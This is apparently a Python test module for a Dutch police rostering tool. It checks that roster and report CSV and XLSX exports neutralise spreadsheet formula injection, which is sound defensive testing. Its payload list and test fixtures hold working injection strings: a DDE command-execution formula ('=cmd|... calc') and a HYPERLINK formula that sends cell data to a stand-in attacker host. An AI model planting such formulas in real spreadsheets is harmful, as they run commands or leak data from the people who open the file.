"""Spreadsheet injection as a class: no CSV or XLSX cell that carries input text can start a formula, however a
spreadsheet splits the field (Dutch Excel at ';', English at ',', others at tabs and line breaks) and whatever it
strips first (spaces, quotes); roster.csv, which is also an input, reads back exactly.

"As a spreadsheet sees it" is :func:`spreadsheet_cells`: every piece of a field between separators, with leading
whitespace and double quotes removed. A piece that then starts with ``= + - @`` would be a live formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import string
from pathlib import Path
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.roster_io import read_roster, roster_to_csv_text
from planner.safe import cell, csv_cell, uncsv_cell
from tests._robust_helpers import WEEK, WIJK_A, WIJK_B, invoke, write_data

TZ = ZoneInfo("Europe/Amsterdam")
FORMULA = ("=", "+", "-", "@")

#: Characters that matter to a spreadsheet, and some plain ones.
_ALPHABET = "=+-@'\";, \t\r\n|!()*/AaZz09é'"
texts = st.text(alphabet=_ALPHABET, max_size=24)
#: Input text as the CSV reader hands it over: stripped at both ends, line endings as LF (every CSV input has its
#: CR and CRLF read as LF, so no roster field holds a CR).
stripped = texts.map(lambda t: t.replace("\r", "\n").strip())


def spreadsheet_cells(field: str) -> list[str]:
    """The cells a spreadsheet may make of one field: split at ; , TAB CR LF, leading whitespace and " removed."""
    return [piece.lstrip(" \t\r\n\f\v\u00a0\"") for piece in re.split(r"[;,\t\r\n]", field)]


def live_formulas(field: str) -> list[str]:
    return [c for c in spreadsheet_cells(field) if c.startswith(FORMULA)]


# Hostile values: every formula start, after every kind of prefix a spreadsheet might strip, behind every
# separator a spreadsheet might split at.
_PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1;"klik")', "+31612345678", "-2+3",
             "@SUM(A1:A9)"]
HOSTILE = sorted({f"{before}{pad}{p}" for p in _PAYLOADS for pad in ("", " ", "\t", '"', " \"", "'")
                  for before in ("", "Anna;", "Anna,", "Anna; ", "Anna\t", "Anna;\"")} | {"'s-Hertogenbosch",
                                                                                          "'t Hofje"})


# -- the guard itself ---------------------------------------------------------------------------------------------


@given(texts)
@settings(max_examples=400, deadline=None)
def test_csv_cell_leaves_no_formula_in_any_split(value):
    """However the field is split and stripped, no piece starts a formula."""
    assert live_formulas(csv_cell(value)) == []


@given(texts)
@settings(max_examples=400, deadline=None)
def test_csv_cell_reads_back_exactly(value):
    """uncsv_cell undoes csv_cell for every text (the roster.csv round trip rests on this)."""
    assert uncsv_cell(csv_cell(value)) == value


@given(texts)
@settings(max_examples=200, deadline=None)
def test_csv_cell_changes_only_what_it_must(value):
    """Text with no formula start in any piece is written unchanged (names, codes, ISO times stay readable)."""
    if not live_formulas(value) and not any(c.lstrip("'").lstrip(" \f\v\u00a0\"").startswith(FORMULA)
                                             for c in re.split(r"[;,\t\r\n]", value)):
        assert csv_cell(value) == value


@pytest.mark.parametrize("value", ["'s-Hertogenbosch", "'t Hofje", "Overleg 's middags"])
def test_hand_written_apostrophes_survive_reading(value):
    """A leading ' that does not guard a formula (Dutch 's and 't) is kept when a hand-made roster is read."""
    assert uncsv_cell(value) == value
    assert csv_cell(value) == value


@given(texts)
@settings(max_examples=200, deadline=None)
def test_xlsx_cell_never_starts_a_formula(value):
    """An XLSX cell cannot be split, but its text after whitespace and quotes must not start a formula."""
    safe = cell(value)
    assert not safe.lstrip(" \t\r\n\f\v\u00a0\"").startswith(FORMULA)


# -- roster.csv: an output and an input -----------------------------------------------------------------------


def _roster(tasks: list[str], shifts: list[str] | None = None, ids: list[str] | None = None) -> pd.DataFrame:
    rows = []
    for i, task in enumerate(tasks):
        start = dt.datetime(2027, 1, 18, 7, tzinfo=TZ) + dt.timedelta(days=i % 7)
        rows.append({"officer_id": (ids or ["W-01"])[i % len(ids or ["W-01"])], "date": start.date(),
                     "start": start, "end": start + dt.timedelta(hours=8), "activity": "noodhulp",
                     "wijk_code": WIJK_A, "shift": (shifts or ["V"])[i % len(shifts or ["V"])], "task": task})
    return pd.DataFrame(rows)


def _fields(text: str) -> list[str]:
    return [f for row in csv.reader(io.StringIO(text)) for f in row]


def assert_no_live_formula(text: str) -> None:
    """Read as a CSV (','), and as raw text split at every separator anywhere (what Dutch Excel does with ';' and
    any reader that ignores quotes): no piece starts a formula."""
    for field in _fields(text):
        assert live_formulas(field) == [], field
    assert live_formulas(text) == []


@given(st.lists(stripped, min_size=1, max_size=6), st.lists(stripped.filter(bool), min_size=1, max_size=3),
       st.lists(stripped.filter(lambda s: bool(s) and "," not in s and s[0] not in "=+-@"), min_size=1, max_size=3))
@settings(max_examples=120, deadline=None)
def test_roster_csv_round_trip_and_no_formula(tmp_path_factory, tasks, shifts, ids):
    """roster.csv with any task, shift code and officer id: read_roster gives back exactly the same values, and
    no field, opened with ',' or ';' as separator and split anywhere, holds a live formula."""
    roster = _roster(tasks, shifts, ids)
    text = roster_to_csv_text(roster)
    assert_no_live_formula(text)
    path = tmp_path_factory.mktemp("r") / "roster.csv"
    path.write_text(text, encoding="utf-8")
    back = read_roster(path, TZ)
    key = ["officer_id", "start"]
    want = roster.sort_values(key, kind="stable").reset_index(drop=True)
    for column in ("officer_id", "task", "shift", "wijk_code", "activity"):
        assert list(back[column]) == list(want[column]), column


def test_roster_csv_quotes_every_field():
    """Every field of roster.csv is quoted, so a separator inside one cannot split it (Dutch Excel: ';')."""
    text = roster_to_csv_text(_roster(["Overleg; =1+1", "Wijk, rondje"]))
    for line in text.splitlines():
        assert re.fullmatch(r'("([^"]|"")*",)*"([^"]|"")*"', line), line


# -- every output that carries input text -----------------------------------------------------------------------


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _hostile_folder(root: Path) -> Path:
    """A small folder whose every free-text field holds hostile values: names, team, wijk and gemeente names,
    team demand names (roster tasks)."""
    name_a, name_b, team, task = HOSTILE[0], HOSTILE[len(HOSTILE) // 2], "Team;=1+1", "Inzet;=cmd|' /C calc'!A0"
    officers = ("officer_id,name,wijk_code,contract_hours,night_exempt,team\n"
                f"W-01,{_csv_field(name_a)},{WIJK_A},36,nee,{_csv_field(team)}\n"
                f"W-02,{_csv_field(name_b)},{WIJK_B},32,ja,{_csv_field(team)}\n")
    team_demand = ("kind,name,day,start,end,officers,wijk_code,team\n"
                   f"noodhulp,{_csv_field(task)},ma,15:00,19:00,1,,{_csv_field(team)}\n")
    from tests._robust_helpers import feature, polygon, wijken_geojson

    features = [feature(WIJK_A, polygon(150_000.0), "=Oost;@West"),
                feature(WIJK_B, polygon(151_000.0), "-West, +Noord")]
    for f in features:
        f["properties"]["gemeente_naam"] = "Proefstad;=1+1"
    wijken = wijken_geojson(features)
    return write_data(root, {"officers.csv": officers, "team_demand.csv": team_demand, "wijken.geojson": wijken,
                             "absences.csv": None, "wishes.csv": None})


def _xlsx_texts(path: Path) -> list[tuple[str, str, str]]:
    from openpyxl import load_workbook

    found = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    found.append((ws.title, c.coordinate, c.value))
    return found


def test_roster_outputs_hold_no_live_formula(tmp_path):
    """planner roster on hostile names, team, wijk names and tasks: roster.csv (read with ',' and ';') and every
    sheet of roster.xlsx hold no live formula; roster.csv's task reads back as written in team_demand.csv."""
    data = _hostile_folder(tmp_path / "data")
    out = tmp_path / "out"
    result = invoke(["roster", data, "-w", WEEK, "-o", out, "-q", "--time-limit", "10"])
    assert result.exit_code == 0, result.output
    assert_no_live_formula((out / "roster.csv").read_text(encoding="utf-8"))
    for sheet, where, value in _xlsx_texts(out / "roster.xlsx"):
        assert not value.lstrip(" \t\r\n\"").startswith(FORMULA), (sheet, where, value)
    back = read_roster(out / "roster.csv", TZ)
    assert "Inzet;=cmd|' /C calc'!A0" in set(back["task"])
    checked = invoke(["check", out / "roster.csv", data])
    assert checked.exit_code == 0, checked.output
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"report.{fmt}"
        made = invoke(["report", data, "--period", WEEK, "--roster", out / "roster.csv", "--out", target])
        assert made.exit_code == 0, made.output
        if fmt == "csv":
            report = target.read_text(encoding="utf-8-sig")
            assert "Proefstad;'=1+1" in report
            assert_no_live_formula(report)
        else:
            for sheet, where, value in _xlsx_texts(target):
                assert not value.lstrip(" \t\r\n\"").startswith(FORMULA), (sheet, where, value)


def test_pinned_hostile_task_and_shift_survive_a_round_trip(tmp_path):
    """A pins file (roster format) with a hostile task: the roster keeps it, roster.csv guards it, and reading
    roster.csv back gives the pinned text exactly (the round trip check, history and pins rely on)."""
    data = write_data(tmp_path / "data", {"absences.csv": None, "wishes.csv": None})
    task = "Overleg;=HYPERLINK(\"http://x\")"
    pins = tmp_path / "pins.csv"
    pins.write_text("officer_id,date,start,end,activity,wijk_code,shift,task\n"
                    f"W-01,2027-01-19,2027-01-19T07:00+01:00,2027-01-19T15:00+01:00,office,,V,{_csv_field(task)}\n",
                    encoding="utf-8")
    out = tmp_path / "out"
    result = invoke(["roster", data, "-w", WEEK, "-o", out, "-q", "--pins", pins, "--time-limit", "10"])
    assert result.exit_code == 0, result.output
    assert "'=HYPERLINK" in (out / "roster.csv").read_text(encoding="utf-8")
    back = read_roster(out / "roster.csv", TZ)
    assert task in set(back["task"])


def test_report_and_whatif_csv_hold_no_live_formula():
    """The municipal report's CSV and the what-if KPI CSV: text quoted and guarded in every piece."""
    from planner.whatif.report import kpi_csv_text

    table = pd.DataFrame({"scenario": HOSTILE, "status": ["optimal"] * len(HOSTILE), "gap": [0.0] * len(HOSTILE)})
    text = kpi_csv_text(table)
    assert_no_live_formula(text)
    assert next(csv.reader(io.StringIO(text.splitlines()[1])))[2] == "0.0"  # numbers stay numbers
    assert string.ascii_letters  # (keeps the import honest)
